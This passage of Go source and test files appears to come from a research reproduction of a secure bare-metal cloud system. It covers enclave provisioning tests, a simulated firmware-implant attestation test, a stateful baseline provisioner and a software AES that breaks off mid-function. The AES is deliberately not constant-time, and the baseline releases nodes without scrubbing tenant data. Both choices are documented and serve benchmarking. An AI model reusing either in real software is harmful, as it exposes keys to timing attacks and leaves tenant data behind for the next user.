		if err := cli.DeleteEnclave(ctx, "tenant"); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := cli.GetOperation(ctx, op.ID); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("operation survived its enclave's deletion: %v", err)
	}
}

// TestV1ListResources: collection endpoints reflect creates and
// acquisitions.
func TestV1ListResources(t *testing.T) {
	_, _, cli := startV1Server(t, 3)
	ctx := context.Background()

	for _, name := range []string{"alpha", "beta"} {
		if _, err := cli.CreateEnclave(ctx, name, "alice"); err != nil {
			t.Fatal(err)
		}
	}
	encls, err := cli.ListEnclaves(ctx)
	if err != nil || len(encls) != 2 {
		t.Fatalf("ListEnclaves = %v, %v", encls, err)
	}
	if encls[0].Name != "alpha" || encls[1].Name != "beta" {
		t.Fatalf("enclave order = %s, %s", encls[0].Name, encls[1].Name)
	}
	op, err := cli.Acquire(ctx, "alpha", "fedora28", 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.WaitOperation(ctx, op.ID); err != nil {
		t.Fatal(err)
	}
	ops, err := cli.ListOperations(ctx)
	if err != nil || len(ops) != 1 || ops[0].ID != op.ID {
		t.Fatalf("ListOperations = %v, %v", ops, err)
	}
	// Event replay from a cursor skips what came before it.
	var all, tail []EventInfo
	if err := cli.StreamEvents(ctx, op.ID, 0, func(ev EventInfo) error {
		all = append(all, ev)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(all) == 0 {
		t.Fatal("no events replayed")
	}
	if err := cli.StreamEvents(ctx, op.ID, len(all)-1, func(ev EventInfo) error {
		tail = append(tail, ev)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(tail) != 1 || tail[0].Kind != all[len(all)-1].Kind {
		t.Fatalf("cursor replay = %+v", tail)
	}
}
