// Package foreman implements the paper's baseline: a Foreman-style
// STATEFUL provisioning system that installs the full OS image onto
// each node's local disk and reboots into it. It exists to contrast
// with BMI's diskless model on the three axes Figure 4 and §3 call out:
//
//   - Installation copies the entire image (BMI pages in <1%).
//   - The node must POST twice (installer boot, then local boot).
//   - Releasing a node leaves tenant state on the local disk unless the
//     provider scrubs it — an operation taking hours on real disks —
//     so the tenant must trust the provider's scrubbing.
package foreman

import (
	"errors"
	"fmt"
	"sync"

	"bolted/internal/blockdev"
)

// Service is a Foreman-like provisioner managing node-local disks.
type Service struct {
	mu        sync.Mutex
	disks     map[string]blockdev.Device // node -> local disk
	installed map[string]string          // node -> image name
}

// New creates an empty provisioner.
func New() *Service {
	return &Service{
		disks:     make(map[string]blockdev.Device),
		installed: make(map[string]string),
	}
}

// RegisterNode attaches a node's local disk.
func (s *Service) RegisterNode(node string, localDisk blockdev.Device) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.disks[node]; ok {
		return fmt.Errorf("foreman: node %q already registered", node)
	}
	s.disks[node] = localDisk
	return nil
}

// InstallResult reports an installation.
type InstallResult struct {
	Node        string
	Image       string
	BytesCopied int64
	// RebootsRequired is always 2: the installer environment boots,
	// copies, then the node POSTs again into the installed OS.
	RebootsRequired int
}

// Install copies the ENTIRE image onto the node's local disk — the
// stateful model's defining cost.
func (s *Service) Install(node, imageName string, image blockdev.Device) (*InstallResult, error) {
	s.mu.Lock()
	disk, ok := s.disks[node]
	s.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("foreman: unknown node %q", node)
	}
	if disk.NumSectors() < image.NumSectors() {
		return nil, errors.New("foreman: local disk smaller than image")
	}
	const chunk = 1 << 20
	buf := make([]byte, chunk)
	var copied int64
	for sec := int64(0); sec < image.NumSectors(); {
		n := int64(chunk / blockdev.SectorSize)
		if rem := image.NumSectors() - sec; rem < n {
			n = rem
			buf = buf[:n*blockdev.SectorSize]
		}
		if err := image.ReadSectors(buf, sec); err != nil {
			return nil, err
		}
		if err := disk.WriteSectors(buf, sec); err != nil {
			return nil, err
		}
		copied += int64(len(buf))
		sec += n
	}
	s.mu.Lock()
	s.installed[node] = imageName
	s.mu.Unlock()
	return &InstallResult{
		Node:            node,
		Image:           imageName,
		BytesCopied:     copied,
		RebootsRequired: 2,
	}, nil
}

// Installed reports what image a node runs ("" if none).
func (s *Service) Installed(node string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.installed[node]
}

// Release returns a node without scrubbing: the previous tenant's data
// REMAINS on the local disk. This is the trust gap Bolted's stateless
// design closes.
func (s *Service) Release(node string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.disks[node]; !ok {
		return fmt.Errorf("foreman: unknown node %q", node)
	}
	delete(s.installed, node)
	return nil
}

// ScrubEstimate is how long a full disk scrub takes at a given disk
// write rate — the "hours of overhead" the paper's footnote 1 cites.
func ScrubEstimate(diskBytes int64, writeBytesPerSec float64) float64 {
	return float64(diskBytes) / writeBytesPerSec
}

// Scrub zeroes a node's local disk (what a provider must do between
// tenants, and what the tenant must trust happened).
func (s *Service) Scrub(node string) error {
	s.mu.Lock()
	disk, ok := s.disks[node]
	s.mu.Unlock()
	if !ok {
		return fmt.Errorf("foreman: unknown node %q", node)
	}
	zero := make([]byte, 1<<20)
	for sec := int64(0); sec < disk.NumSectors(); {
		n := int64(len(zero) / blockdev.SectorSize)
		if rem := disk.NumSectors() - sec; rem < n {
			n = rem
			zero = zero[:n*blockdev.SectorSize]
		}
		if err := disk.WriteSectors(zero, sec); err != nil {
			return err
		}
		sec += n
	}
	return nil
}
