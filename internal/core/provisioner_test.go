package core

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"bolted/internal/firmware"
)

func TestAcquireNodesBatchHappyPath(t *testing.T) {
	c := testCloud(t, 8, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "batch", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.AcquireNodes(context.Background(), "fedora28", 8)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 8 || len(res.Failed) != 0 || len(res.Aborted) != 0 {
		t.Fatalf("nodes=%d failed=%v aborted=%v", len(res.Nodes), res.Failed, res.Aborted)
	}
	// Every member booted the tenant kernel and is tracked as Allocated.
	for _, n := range res.Nodes {
		if n.Machine.Layer() != firmware.LayerTenantKernel {
			t.Fatalf("%s layer = %s", n.Name, n.Machine.Layer())
		}
		if st := e.NodeState(n.Name); st != StateAllocated {
			t.Fatalf("%s state = %s", n.Name, st)
		}
		if st, err := e.Verifier().Status(n.Name); err != nil || st != "verified" {
			t.Fatalf("%s verifier status = %s, %v", n.Name, st, err)
		}
	}
	if free, _ := c.HIL.FreeNodes(); len(free) != 0 {
		t.Fatalf("free pool = %v", free)
	}
	// Per-node journal trails are complete and ordered despite the
	// concurrent pipeline.
	want := []EventKind{EvAllocated, EvAirlocked, EvBooting, EvAttesting, EvAttested, EvProvisioned, EvBooted, EvJoined}
	for _, n := range res.Nodes {
		trail := e.Journal().ByNode(n.Name)
		if len(trail) != len(want) {
			t.Fatalf("%s trail = %v", n.Name, trail)
		}
		for i := range want {
			if trail[i].Kind != want[i] {
				t.Fatalf("%s trail[%d] = %s, want %s", n.Name, i, trail[i].Kind, want[i])
			}
		}
	}
	// The batch reports timings in the simulation's phase vocabulary.
	for _, phase := range []string{PhaseAirlock, PhaseBoot, PhaseAttest, PhaseProvision} {
		pt := res.Timings.ByPhase(phase)
		if pt.Nodes != 8 || pt.Total <= 0 || pt.Max <= 0 {
			t.Fatalf("phase %s timing = %+v", phase, pt)
		}
	}
	if res.Timings.Wall <= 0 {
		t.Fatal("no wall-clock measured")
	}
}

// TestAcquireNodesBatchWallClock is the scalability acceptance check:
// a batch of 8 must complete in less than 8x the single-node time —
// i.e. strictly better than the paper prototype's serial loop.
func TestAcquireNodesBatchWallClock(t *testing.T) {
	if raceEnabled {
		t.Skip("wall-clock comparison is not meaningful under the race detector")
	}
	c := testCloud(t, 16, FirmwareLinuxBoot)
	warm, err := NewEnclave(c, "warmup", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	// Warm up lazy initialization so the serial baseline is not
	// penalized by first-use costs.
	n, err := warm.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	if err := warm.ReleaseNode(n.Name, ""); err != nil {
		t.Fatal(err)
	}

	es, err := NewEnclave(c, "serial", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	for i := 0; i < 8; i++ {
		if _, err := es.AcquireNode(context.Background(), "fedora28"); err != nil {
			t.Fatal(err)
		}
	}
	serial8 := time.Since(start) // == 8x the measured single-node time

	eb, err := NewEnclave(c, "batch", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	res, err := eb.AcquireNodes(context.Background(), "fedora28", 8)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 8 {
		t.Fatalf("batch allocated %d nodes", len(res.Nodes))
	}
	if res.Timings.Wall >= serial8 {
		t.Errorf("batch of 8 took %v, not below 8x single-node time %v", res.Timings.Wall, serial8)
	}
}

func TestAcquireNodesIsolatesAttestationFailure(t *testing.T) {
	c := testCloud(t, 8, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "batch", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	// A previous tenant implanted node03's firmware.
	m, err := c.Machine("node03")
	if err != nil {
		t.Fatal(err)
	}
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted heads"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))

	res, err := e.AcquireNodes(context.Background(), "fedora28", 8)
	if err != nil {
		t.Fatal(err) // a per-node failure must not fail the batch
	}
	if len(res.Nodes) != 7 {
		t.Fatalf("siblings allocated = %d, want 7", len(res.Nodes))
	}
	if len(res.Failed) != 1 || res.Failed[0].Node != "node03" || res.Failed[0].Phase != PhaseAttest {
		t.Fatalf("failed = %v", res.Failed)
	}
	// The bad node is quarantined in the provider's rejected pool, off
	// every network, and the lifecycle records the rejection.
	if _, ok := c.Rejected()["node03"]; !ok {
		t.Fatalf("rejected pool = %v", c.Rejected())
	}
	if owner, _ := c.HIL.NodeOwner("node03"); owner != RejectedProject {
		t.Fatalf("node03 owner = %q", owner)
	}
	port, _ := c.HIL.NodePort("node03")
	if vlans, _ := c.Fabric.VLANsOf(port); len(vlans) != 0 {
		t.Fatalf("rejected node still on VLANs %v", vlans)
	}
	if st := e.NodeState("node03"); st != StateRejected {
		t.Fatalf("node03 state = %s", st)
	}
	// Siblings are live members: traffic flows between them.
	if _, err := e.Send(res.Nodes[0].Name, res.Nodes[1].Name, []byte("ok")); err != nil {
		t.Fatal(err)
	}
}

func TestAcquireNodesContextCancelledUpFront(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "t", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := e.AcquireNodes(ctx, "fedora28", 2); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	// Nothing was reserved or touched.
	if free, _ := c.HIL.FreeNodes(); len(free) != 2 {
		t.Fatalf("free pool = %v", free)
	}
	if got := len(e.Journal().Events()); got != 0 {
		t.Fatalf("journal has %d events", got)
	}
}

// countdownCtx cancels itself after a fixed number of Err checks. The
// pipeline consults ctx at every phase boundary and inside each HIL /
// BMI / Keylime call, so a budget that outlives a few nodes' worth of
// checks cancels the batch mid-flight deterministically — independent
// of goroutine scheduling (a wall-clock cancel is flaky on one CPU).
type countdownCtx struct {
	context.Context
	mu   sync.Mutex
	left int
}

func (c *countdownCtx) Err() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.left <= 0 {
		return context.Canceled
	}
	c.left--
	return nil
}

func TestAcquireNodesCancellationMidBatch(t *testing.T) {
	c := testCloud(t, 16, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "t", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	// Reservation and the first few nodes fit the budget; the rest of
	// the 16-node batch hits the exhausted context at a phase boundary.
	ctx := &countdownCtx{Context: context.Background(), left: 150}
	res, err := e.AcquireNodes(ctx, "fedora28", 16)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if total := len(res.Nodes) + len(res.Failed) + len(res.Aborted); total != 16 {
		t.Fatalf("nodes=%d failed=%d aborted=%d, want 16 total", len(res.Nodes), len(res.Failed), len(res.Aborted))
	}
	if len(res.Failed) != 0 {
		t.Fatalf("cancellation must not quarantine healthy nodes: %v", res.Failed)
	}
	if len(res.Aborted) == 0 {
		t.Fatal("no node aborted despite cancellation")
	}
	if len(res.Nodes) == 0 {
		t.Fatal("nodes completed within the budget should have been returned")
	}
	// Aborted nodes are healthy: back in the free pool, not rejected,
	// state Free, and off every network.
	if len(c.Rejected()) != 0 {
		t.Fatalf("rejected pool = %v", c.Rejected())
	}
	for _, f := range res.Aborted {
		if owner, _ := c.HIL.NodeOwner(f.Node); owner != "" {
			t.Fatalf("aborted %s still owned by %q", f.Node, owner)
		}
		if st := e.NodeState(f.Node); st != StateFree {
			t.Fatalf("aborted %s state = %s", f.Node, st)
		}
		port, _ := c.HIL.NodePort(f.Node)
		if vlans, _ := c.Fabric.VLANsOf(port); len(vlans) != 0 {
			t.Fatalf("aborted %s still on VLANs %v", f.Node, vlans)
		}
	}
	// Completed members survive the cancellation.
	for _, n := range res.Nodes {
		if st := e.NodeState(n.Name); st != StateAllocated {
			t.Fatalf("member %s state = %s", n.Name, st)
		}
	}
}

func TestAcquireNodesBatchLargerThanFreePool(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "t", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.AcquireNodes(context.Background(), "fedora28", 3); err == nil {
		t.Fatal("batch larger than free pool accepted")
	}
	// The failed reservation left the pool untouched.
	if free, _ := c.HIL.FreeNodes(); len(free) != 2 {
		t.Fatalf("free pool = %v", free)
	}
}

func TestLifecycleRejectsIllegalTransitions(t *testing.T) {
	var j Journal
	lc := newLifecycle(&j)
	if err := lc.to("n", StateAttesting, ""); err == nil {
		t.Fatal("free -> attesting accepted")
	}
	if err := lc.to("n", StateAirlocked, ""); err != nil {
		t.Fatal(err)
	}
	if err := lc.to("n", StateAllocated, ""); err == nil {
		t.Fatal("airlocked -> allocated accepted")
	}
	if err := lc.to("n", StateBooting, ""); err != nil {
		t.Fatal(err)
	}
	// No-attestation profiles skip Attesting entirely.
	if err := lc.to("n", StateProvisioned, ""); err != nil {
		t.Fatal(err)
	}
	if err := lc.to("n", StateAllocated, ""); err != nil {
		t.Fatal(err)
	}
	if got := lc.state("n"); got != StateAllocated {
		t.Fatalf("state = %s", got)
	}
	// Each legal transition journalled exactly once.
	if got := len(j.Events()); got != 4 {
		t.Fatalf("journal has %d events", got)
	}
}

// TestBatchSharesSimulationPhaseVocabulary pins the contract that real
// batch timings and the Figure-4/5 simulation speak the same phase
// names, so measured and simulated breakdowns can be compared directly.
func TestBatchSharesSimulationPhaseVocabulary(t *testing.T) {
	canonical := map[string]bool{PhaseAirlock: true, PhaseBoot: true, PhaseAttest: true, PhaseProvision: true}
	r := SimulateProvisioning(DefaultProvisionConfig())
	groups := r.ByGroup()
	if len(groups) == 0 {
		t.Fatal("simulation has no phase groups")
	}
	for g := range groups {
		if !canonical[g] {
			t.Fatalf("simulation phase group %q not in canonical vocabulary", g)
		}
	}
	c := testCloud(t, 1, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "t", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.AcquireNodes(context.Background(), "fedora28", 1)
	if err != nil {
		t.Fatal(err)
	}
	for _, pt := range res.Timings.Phases {
		if !canonical[pt.Phase] {
			t.Fatalf("batch phase %q not in canonical vocabulary", pt.Phase)
		}
	}
}
