package ipsec

import (
	"sync/atomic"

	"bolted/internal/obs"
)

// espMetrics are the package-wide ESP instruments. SAs churn with every
// rekey, so the instruments live at package level; per-SA labels would
// explode cardinality on every PSK rotation.
type espMetrics struct {
	sealedBytes *obs.Counter // payload bytes sealed into ESP packets
	sealedPkts  *obs.Counter // ESP packets sealed
	openedBytes *obs.Counter // payload bytes recovered from ESP packets
}

var zeroESPMetrics espMetrics

var espM atomic.Pointer[espMetrics]

// SetMetrics attaches the package's ESP instruments to a registry. Safe
// to call at any time (the swap is atomic), but counters only cover
// traffic after the call.
func SetMetrics(reg *obs.Registry) {
	espM.Store(&espMetrics{
		sealedBytes: reg.Counter("bolted_esp_sealed_bytes_total",
			"Payload bytes sealed into outbound ESP packets."),
		sealedPkts: reg.Counter("bolted_esp_sealed_packets_total",
			"Outbound ESP packets sealed."),
		openedBytes: reg.Counter("bolted_esp_opened_bytes_total",
			"Payload bytes authenticated and recovered from inbound ESP packets."),
	})
}

func espMetricsNow() *espMetrics {
	if p := espM.Load(); p != nil {
		return p
	}
	return &zeroESPMetrics
}
