// Package softaes is a pure-Go, table-free AES implementation used as the
// "software AES" comparison point in the IPsec experiments (Figure 3b of
// the Bolted paper). The standard library's crypto/aes uses AES-NI on
// amd64, which models the paper's hardware-accelerated path; this package
// deliberately takes the plain arithmetic path a kernel without AES-NI
// support would take.
//
// It implements cipher.Block for 128-, 192- and 256-bit keys, so it can be
// wrapped by cipher.NewGCM exactly like the hardware path.
//
// This implementation is NOT constant-time and must never be used to
// protect real data; it exists to reproduce a performance experiment.
package softaes

import (
	"crypto/cipher"
	"fmt"
)

// BlockSize is the AES block size in bytes.
const BlockSize = 16

var sbox = [256]byte{
	0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76,
	0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0, 0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0,
	0xb7, 0xfd, 0x93, 0x26, 0x36, 0x3f, 0xf7, 0xcc, 0x34, 0xa5, 0xe5, 0xf1, 0x71, 0xd8, 0x31, 0x15,
	0x04, 0xc7, 0x23, 0xc3, 0x18, 0x96, 0x05, 0x9a, 0x07, 0x12, 0x80, 0xe2, 0xeb, 0x27, 0xb2, 0x75,
	0x09, 0x83, 0x2c, 0x1a, 0x1b, 0x6e, 0x5a, 0xa0, 0x52, 0x3b, 0xd6, 0xb3, 0x29, 0xe3, 0x2f, 0x84,
	0x53, 0xd1, 0x00, 0xed, 0x20, 0xfc, 0xb1, 0x5b, 0x6a, 0xcb, 0xbe, 0x39, 0x4a, 0x4c, 0x58, 0xcf,
	0xd0, 0xef, 0xaa, 0xfb, 0x43, 0x4d, 0x33, 0x85, 0x45, 0xf9, 0x02, 0x7f, 0x50, 0x3c, 0x9f, 0xa8,
	0x51, 0xa3, 0x40, 0x8f, 0x92, 0x9d, 0x38, 0xf5, 0xbc, 0xb6, 0xda, 0x21, 0x10, 0xff, 0xf3, 0xd2,
	0xcd, 0x0c, 0x13, 0xec, 0x5f, 0x97, 0x44, 0x17, 0xc4, 0xa7, 0x7e, 0x3d, 0x64, 0x5d, 0x19, 0x73,
	0x60, 0x81, 0x4f, 0xdc, 0x22, 0x2a, 0x90, 0x88, 0x46, 0xee, 0xb8, 0x14, 0xde, 0x5e, 0x0b, 0xdb,
	0xe0, 0x32, 0x3a, 0x0a, 0x49, 0x06, 0x24, 0x5c, 0xc2, 0xd3, 0xac, 0x62, 0x91, 0x95, 0xe4, 0x79,
	0xe7, 0xc8, 0x37, 0x6d, 0x8d, 0xd5, 0x4e, 0xa9, 0x6c, 0x56, 0xf4, 0xea, 0x65, 0x7a, 0xae, 0x08,
	0xba, 0x78, 0x25, 0x2e, 0x1c, 0xa6, 0xb4, 0xc6, 0xe8, 0xdd, 0x74, 0x1f, 0x4b, 0xbd, 0x8b, 0x8a,
	0x70, 0x3e, 0xb5, 0x66, 0x48, 0x03, 0xf6, 0x0e, 0x61, 0x35, 0x57, 0xb9, 0x86, 0xc1, 0x1d, 0x9e,
	0xe1, 0xf8, 0x98, 0x11, 0x69, 0xd9, 0x8e, 0x94, 0x9b, 0x1e, 0x87, 0xe9, 0xce, 0x55, 0x28, 0xdf,
	0x8c, 0xa1, 0x89, 0x0d, 0xbf, 0xe6, 0x42, 0x68, 0x41, 0x99, 0x2d, 0x0f, 0xb0, 0x54, 0xbb, 0x16,
}

var invSbox [256]byte

// Precomputed GF(2^8) multiplication tables. xtimeTab replaces the
// branchy doubling in MixColumns; the mul* tables turn InvMixColumns
// from a bit-serial multiply into four lookups per byte. Together they
// are what lets the multi-block path approach memory speed on hosts
// without AES-NI.
var (
	xtimeTab [256]byte
	mul9Tab  [256]byte
	mul11Tab [256]byte
	mul13Tab [256]byte
	mul14Tab [256]byte
)

func init() {
	for i, v := range sbox {
		invSbox[v] = byte(i)
	}
	for i := 0; i < 256; i++ {
		b := byte(i)
		xtimeTab[i] = xtime(b)
		mul9Tab[i] = gmul(b, 0x09)
		mul11Tab[i] = gmul(b, 0x0b)
		mul13Tab[i] = gmul(b, 0x0d)
		mul14Tab[i] = gmul(b, 0x0e)
	}
}

// rcon round constants for key expansion (first byte of each word).
var rcon = [11]byte{0x00, 0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1b, 0x36}

// Cipher is a software AES block cipher. It implements cipher.Block.
type Cipher struct {
	rounds int
	enc    [][4][4]byte // round keys as state matrices (column-major)
}

var _ cipher.Block = (*Cipher)(nil)

// KeySizeError reports an invalid AES key length.
type KeySizeError int

func (k KeySizeError) Error() string {
	return fmt.Sprintf("softaes: invalid key size %d", int(k))
}

// New creates a software AES cipher for a 16-, 24- or 32-byte key.
func New(key []byte) (*Cipher, error) {
	var rounds int
	switch len(key) {
	case 16:
		rounds = 10
	case 24:
		rounds = 12
	case 32:
		rounds = 14
	default:
		return nil, KeySizeError(len(key))
	}
	c := &Cipher{rounds: rounds}
	c.expandKey(key)
	return c, nil
}

// expandKey computes the AES key schedule.
func (c *Cipher) expandKey(key []byte) {
	nk := len(key) / 4
	nw := 4 * (c.rounds + 1)
	w := make([][4]byte, nw)
	for i := 0; i < nk; i++ {
		copy(w[i][:], key[4*i:4*i+4])
	}
	for i := nk; i < nw; i++ {
		t := w[i-1]
		if i%nk == 0 {
			// RotWord + SubWord + Rcon.
			t = [4]byte{sbox[t[1]], sbox[t[2]], sbox[t[3]], sbox[t[0]]}
			t[0] ^= rcon[i/nk]
		} else if nk > 6 && i%nk == 4 {
			t = [4]byte{sbox[t[0]], sbox[t[1]], sbox[t[2]], sbox[t[3]]}
		}
		for j := 0; j < 4; j++ {
			w[i][j] = w[i-nk][j] ^ t[j]
		}
	}
	c.enc = make([][4][4]byte, c.rounds+1)
	for r := 0; r <= c.rounds; r++ {
		for col := 0; col < 4; col++ {
			for row := 0; row < 4; row++ {
				c.enc[r][row][col] = w[4*r+col][row]
			}
		}
	}
}

// BlockSize returns the AES block size, 16 bytes.
func (c *Cipher) BlockSize() int { return BlockSize }

// xtime multiplies by x in GF(2^8) modulo the AES polynomial.
func xtime(b byte) byte {
	if b&0x80 != 0 {
		return b<<1 ^ 0x1b
	}
	return b << 1
}

// gmul multiplies two bytes in GF(2^8).
func gmul(a, b byte) byte {
	var p byte
	for b != 0 {
		if b&1 != 0 {
			p ^= a
		}
		a = xtime(a)
		b >>= 1
	}
	return p
}

type state [4][4]byte

func loadState(src []byte) state {
	var st state
	for col := 0; col < 4; col++ {
		for row := 0; row < 4; row++ {
			st[row][col] = src[4*col+row]
		}
	}
	return st
}

func storeState(st *state, dst []byte) {
	for col := 0; col < 4; col++ {
		for row := 0; row < 4; row++ {
			dst[4*col+row] = st[row][col]
		}
	}
}

func (st *state) addRoundKey(rk *[4][4]byte) {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			st[r][c] ^= rk[r][c]
		}
	}
}

func (st *state) subBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			st[r][c] = sbox[st[r][c]]
		}
	}
}

func (st *state) invSubBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			st[r][c] = invSbox[st[r][c]]
		}
	}
}

func (st *state) shiftRows() {
	st[1][0], st[1][1], st[1][2], st[1][3] = st[1][1], st[1][2], st[1][3], st[1][0]
	st[2][0], st[2][1], st[2][2], st[2][3] = st[2][2], st[2][3], st[2][0], st[2][1]
	st[3][0], st[3][1], st[3][2], st[3][3] = st[3][3], st[3][0], st[3][1], st[3][2]
}

func (st *state) invShiftRows() {
	st[1][0], st[1][1], st[1][2], st[1][3] = st[1][3], st[1][0], st[1][1], st[1][2]
	st[2][0], st[2][1], st[2][2], st[2][3] = st[2][2], st[2][3], st[2][0], st[2][1]
	st[3][0], st[3][1], st[3][2], st[3][3] = st[3][1], st[3][2], st[3][3], st[3][0]
}

func (st *state) mixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := st[0][c], st[1][c], st[2][c], st[3][c]
		st[0][c] = xtimeTab[a0] ^ (xtimeTab[a1] ^ a1) ^ a2 ^ a3
		st[1][c] = a0 ^ xtimeTab[a1] ^ (xtimeTab[a2] ^ a2) ^ a3
		st[2][c] = a0 ^ a1 ^ xtimeTab[a2] ^ (xtimeTab[a3] ^ a3)
		st[3][c] = (xtimeTab[a0] ^ a0) ^ a1 ^ a2 ^ xtimeTab[a3]
	}
}

func (st *state) invMixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := st[0][c], st[1][c], st[2][c], st[3][c]
		st[0][c] = mul14Tab[a0] ^ mul11Tab[a1] ^ mul13Tab[a2] ^ mul9Tab[a3]
		st[1][c] = mul9Tab[a0] ^ mul14Tab[a1] ^ mul11Tab[a2] ^ mul13Tab[a3]
		st[2][c] = mul13Tab[a0] ^ mul9Tab[a1] ^ mul14Tab[a2] ^ mul11Tab[a3]
		st[3][c] = mul11Tab[a0] ^ mul13Tab[a1] ^ mul9Tab[a2] ^ mul14Tab[a3]
	}
}

// Encrypt encrypts one 16-byte block from src into dst.
func (c *Cipher) Encrypt(dst, src []byte) {
	if len(src) < BlockSize || len(dst) < BlockSize {
		panic("softaes: input not full block")
	}
	st := loadState(src)
	st.addRoundKey(&c.enc[0])
	for r := 1; r < c.rounds; r++ {
		st.subBytes()
		st.shiftRows()
		st.mixColumns()
		st.addRoundKey(&c.enc[r])
	}
	st.subBytes()
	st.shiftRows()
	st.addRoundKey(&c.enc[c.rounds])
	storeState(&st, dst)
}

// laneWidth is how many blocks the batched path processes per inner
// iteration. Interleaving four states through each round amortizes the
// round-key loads and loop control that dominate the one-block path.
const laneWidth = 4

// EncryptBlocks encrypts len(src)/16 contiguous blocks from src into
// dst, four blocks per inner iteration. len(src) must be a positive
// multiple of BlockSize and dst at least as long; dst may alias src.
// This is the software-AES analogue of a hardware pipeline processing
// independent blocks back to back (the XTS and CTR shapes, where no
// block depends on another's output).
func (c *Cipher) EncryptBlocks(dst, src []byte) {
	if len(src) == 0 || len(src)%BlockSize != 0 || len(dst) < len(src) {
		panic("softaes: EncryptBlocks buffer not a positive block multiple")
	}
	n := len(src)
	off := 0
	for ; off+laneWidth*BlockSize <= n; off += laneWidth * BlockSize {
		c.encrypt4(dst[off:], src[off:])
	}
	for ; off < n; off += BlockSize {
		c.Encrypt(dst[off:off+BlockSize], src[off:off+BlockSize])
	}
}

// DecryptBlocks is the decrypting counterpart of EncryptBlocks.
func (c *Cipher) DecryptBlocks(dst, src []byte) {
	if len(src) == 0 || len(src)%BlockSize != 0 || len(dst) < len(src) {
		panic("softaes: DecryptBlocks buffer not a positive block multiple")
	}
	n := len(src)
	off := 0
	for ; off+laneWidth*BlockSize <= n; off += laneWidth * BlockSize {
		c.decrypt4(dst[off:], src[off:])
	}
	for ; off < n; off += BlockSize {
		c.Decrypt(dst[off:off+BlockSize], src[off:off+BlockSize])
	}
}

// encrypt4 encrypts four consecutive blocks, walking the key schedule
// once for all four lanes.
func (c *Cipher) encrypt4(dst, src []byte) {
	var lanes [laneWidth]state
	for l := 0; l < laneWidth; l++ {
		lanes[l] = loadState(src[l*BlockSize:])
		lanes[l].addRoundKey(&c.enc[0])
	}
	for r := 1; r < c.rounds; r++ {
		rk := &c.enc[r]
		for l := 0; l < laneWidth; l++ {
			lanes[l].subBytes()
			lanes[l].shiftRows()
			lanes[l].mixColumns()
			lanes[l].addRoundKey(rk)
		}
	}
	last := &c.enc[c.rounds]
	for l := 0; l < laneWidth; l++ {
		lanes[l].subBytes()
		lanes[l].shiftRows()
		lanes[l].addRoundKey(last)
		storeState(&lanes[l], dst[l*BlockSize:])
	}
}

// decrypt4 decrypts four consecutive blocks, walking the key schedule
// once for all four lanes.
func (c *Cipher) decrypt4(dst, src []byte) {
	var lanes [laneWidth]state
	for l := 0; l < laneWidth; l++ {
		lanes[l] = loadState(src[l*BlockSize:])
		lanes[l].addRoundKey(&c.enc[c.rounds])
	}
	for r := c.rounds - 1; r >= 1; r-- {
		rk := &c.enc[r]
		for l := 0; l < laneWidth; l++ {
			lanes[l].invShiftRows()
			lanes[l].invSubBytes()
			lanes[l].addRoundKey(rk)
			lanes[l].invMixColumns()
		}
	}
	first := &c.enc[0]
	for l := 0; l < laneWidth; l++ {
		lanes[l].invShiftRows()
		lanes[l].invSubBytes()
		lanes[l].addRoundKey(first)
		storeState(&lanes[l], dst[l*BlockSize:])
	}
}

// Decrypt decrypts one 16-byte block from src into dst.
func (c *Cipher) Decrypt(dst, src []byte) {
	if len(src) < BlockSize || len(dst) < BlockSize {
		panic("softaes: input not full block")
	}
	st := loadState(src)
	st.addRoundKey(&c.enc[c.rounds])
	for r := c.rounds - 1; r >= 1; r-- {
		st.invShiftRows()
